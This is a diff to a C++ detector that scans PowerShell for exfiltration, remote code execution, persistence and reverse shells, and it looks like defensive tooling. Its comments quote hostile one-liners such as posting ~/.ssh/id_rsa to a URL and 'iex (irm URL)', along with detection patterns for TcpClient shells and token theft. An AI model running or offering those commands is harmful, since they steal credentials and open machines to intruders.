@@ -1,4 +1,5 @@
 #include <algorithm>
+#include <map>
 
 #include "base/format.h"
 #include "base/text.h"
@@ -51,6 +52,9 @@ std::vector<Word> words_of(std::string_view text, std::size_t base, Language lan
         }
       } else if (d == '"' || d == '\'') {
         quote = d;
+      } else if (d == '+' && i > begin && i + 1 < text.size() && (text[i - 1] == '"' || text[i - 1] == '\'') &&
+                 (text[i + 1] == '"' || text[i + 1] == '\'')) {
+        // "ie"+"x" is one text
       } else if (d == escape && i + 1 < text.size()) {
         word.text += text[++i];
       } else if (is_space(d) || std::string_view("()|{};&,=").find(d) != std::string_view::npos) {
@@ -87,7 +91,9 @@ class Detector {
     const std::vector<Word> words = words_of(view_.text.substr(begin, end - begin), begin, view_.language);
     if (words.empty()) return;
     const Span span = span_between(words.front().span.offset, words.back().span.end());
+    folds(words);
     remote(words, span);
+    sends(words, span);
     encoded(words, span);
     destroys(words, span);
     guards(words, span);
@@ -111,6 +117,44 @@ class Detector {
     return {};
   }
 
+  // $a = "ie" + "x"
+  void folds(const std::vector<Word>& words) {
+    constexpr std::size_t k_most = 1'000;
+    if (words.size() != 2 || !words[0].text.starts_with("$") || words[1].before != '=' || values_.size() >= k_most)
+      return;
+    values_[words[0].lower] = words[1].lower;
+  }
+
+  std::string_view value_of(std::string_view variable) const {
+    const auto known = values_.find(variable);
+    return known == values_.end() ? std::string_view() : std::string_view(known->second);
+  }
+
+  static std::string_view without_here(std::string_view path) {
+    if (path.starts_with(".\\") || path.starts_with("./")) path.remove_prefix(2);
+    return path;
+  }
+
+  // Get-Content ~\.ssh\id_rsa | % { irm -Method Post -Body $_ URL }
+  void sends(const std::vector<Word>& words, Span span) {
+    bool out = false;
+    std::string what;
+    for (std::size_t i = 0; i < words.size(); ++i) {
+      const std::string& word = words[i].lower;
+      out = out || word.find("uploadstring") != std::string::npos || word.find("uploadfile") != std::string::npos ||
+            word.find("uploaddata") != std::string::npos || word == "-body" || word == "-infile" || word == "-form";
+      if (word == "env:" || word == "env:*") what = "the whole environment, tokens included,";
+      if (word.find("get-clipboard") != std::string::npos) what = "the clipboard";
+      if (const SensitivePath path = sensitive_path(words[i].text); path && !path.common) what = path.what;
+    }
+    if (!out || what.empty()) return;
+    const Url to = parse_url(url_in(words));
+    if (to.kind == HostKind::local) return;
+    report(span, "exfiltration", Risk::critical,
+           format("sends {} to {}", what, to.host.empty() ? std::string("another machine") : to.host),
+           "remove it: nothing that proves who the user is may leave the machine", true);
+  }
+
   // iex (irm URL), irm URL | iex, $x = irm URL; iex $x, & ([scriptblock]::Create((irm URL)))
   void remote(const std::vector<Word>& words, Span span) {
     bool fetch = false;
@@ -119,7 +163,12 @@ class Detector {
     for (std::size_t i = 0; i < words.size(); ++i) {
       fetch = fetch || fetches(words[i].lower);
       eval = eval || evaluates(words[i].lower) || words[i].lower.find("scriptblock]::create") != std::string::npos ||
-             words[i].lower.find("[scriptblock]::create") != std::string::npos;
+             words[i].lower.find("assembly]::load") != std::string::npos ||
+             (words[i].before == '&' && evaluates(value_of(words[i].lower)));
+      if (words[i].lower.find("downloadfile") != std::string::npos && i + 2 < words.size()) {
+        fetch = true;
+        file = words[i + 2].lower;
+      }
       if ((words[i].lower == "-outfile" || words[i].lower == "-o" || words[i].lower == "-destination") &&
           i + 1 < words.size()) {
         file = words[i + 1].lower;
@@ -153,7 +202,7 @@ class Detector {
       file_url_ = url_in(words);
     } else if (!file_.empty()) {
       for (const Word& word : words) {
-        if (word.lower != file_ || fetch) continue;
+        if (without_here(word.lower) != without_here(file_) || fetch) continue;
         const std::string& first = words[0].lower;
         const bool runs = &word == &words[0] || first == "start-process" || first == "start" || first == "powershell" ||
                           first == "invoke-item" || first == "pwsh" || words[0].before == '&';
@@ -264,7 +313,13 @@ class Detector {
       }
     }
     if ((first == "schtasks" && words.size() > 1 && words[1].lower == "/create") || first == "register-scheduledtask") {
-      report(span, "persistence", Risk::medium, "adds a timer that runs a command from then on", k_stay_help);
+      bool danger = false;
+      for (const Word& word : words) {
+        if (word.text.find(' ') == std::string::npos || danger) continue;
+        danger = scan_.inside(view_, span, word.text, Language::powershell, "");
+      }
+      report(span, "persistence", danger ? Risk::critical : Risk::medium,
+             "adds a timer that runs a command from then on", k_stay_help);
     }
   }
 
@@ -274,7 +329,9 @@ class Detector {
     const bool fetcher = first == "certutil" || first == "bitsadmin" || first == "mshta" || first == "regsvr32" ||
                          first == "rundll32" || first == "msiexec";
     if (!fetcher) return;
-    const std::string url = url_in(words);
+    std::string url = url_in(words);
+    // \\\\host\\share is on another machine as well.
+    if (url.empty() && words.size() > 1 && words[1].text.starts_with("\\\\")) url = words[1].text.substr(2);
     if (url.empty()) return;
     if (first == "msiexec") return;
     const OriginRisk origin = origin_risk(url, false);
@@ -289,13 +346,33 @@ class Detector {
   std::string variable_url_;
   std::string file_;
   std::string file_url_;
+  std::map<std::string, std::string, std::less<>> values_;  // of variables, in lower case
 };
+
+// A connection whose lines are run: the words of it stand in several statements.
+void find_remote_shell(Scan& scan, const View& view) {
+  const std::string lower = to_lower(view.text);
+  const std::size_t at = lower.find("tcpclient");
+  if (at == std::string::npos || lower.find("getstream", at) == std::string::npos) return;
+  bool runs = false;
+  for (const std::string_view word : {"iex ", "iex(", "invoke-expression", "cmd.exe", "powershell.exe"}) {
+    runs = runs || lower.find(word, at) != std::string::npos;
+  }
+  if (!runs) return;
+  scan.findings.add(view, span_between(at, at + 9),
+                    {.rule = "reverse-shell",
+                     .risk = Risk::critical,
+                     .message = "gives whoever is at the other end of the connection a shell on this machine",
+                     .help = "remove it",
+                     .firm = true});
+}
 
 }  // namespace
 
 bool scan_powershell(Scan& scan, const View& view) {
   const std::size_t before = scan.findings.reported();
   Detector detector(scan, view);
+  find_remote_shell(scan, view);
   const std::string_view text = view.text;
   std::size_t begin = 0;
   char quote = 0;
